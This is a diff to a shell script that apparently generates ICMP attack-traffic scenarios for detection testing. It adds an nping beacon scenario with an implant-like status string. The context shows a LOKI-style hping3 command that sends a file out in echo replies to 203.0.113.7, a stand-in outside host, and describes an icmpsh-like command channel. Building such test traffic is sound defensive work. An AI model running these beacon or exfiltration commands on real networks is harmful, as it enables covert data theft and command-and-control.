@@ -31,6 +31,7 @@
 #   sweep6_fping        fping -6 over fd78::20 - fd78::3f
 #   traceroute_many     traceroute -I, traceroute -U and mtr -u -r to three outside and inside hosts
 #   exfil_reply_loki    a file sent out in unsolicited echo replies (hping3 -1 -C 0 -E), as LOKI did
+#   beacon_nping        nping --icmp every 5 s with a fixed 24-byte string, to an outside host, 100 s
 #   c2_icmpsh_like      a command channel in the manner of icmpsh (icmp_c2.py): the implant polls an
 #                       outside master every second, commands come back in echo replies, output
 #                       goes out in echo requests (about 80 s)
@@ -117,6 +118,8 @@ case $sc in
   exfil_reply_loki)
     head -c 40000 /dev/urandom | base64 > /tmp/ih_loki
     x ih_atk timeout 40 hping3 -1 -C 0 -E /tmp/ih_loki -d 400 -c 80 -i u300000 -q 203.0.113.7 >/dev/null 2>&1 ;;
+  beacon_nping)
+    x ih_atk timeout 110 nping --icmp -c 20 --delay 5s -q --data-string 'id=7f3a;state=idle;v=2.1' 203.0.113.7 >/dev/null 2>&1 ;;
   *) echo "unknown scenario $sc" >&2; kill "$cap"; exit 2 ;;
 esac
 sleep 2
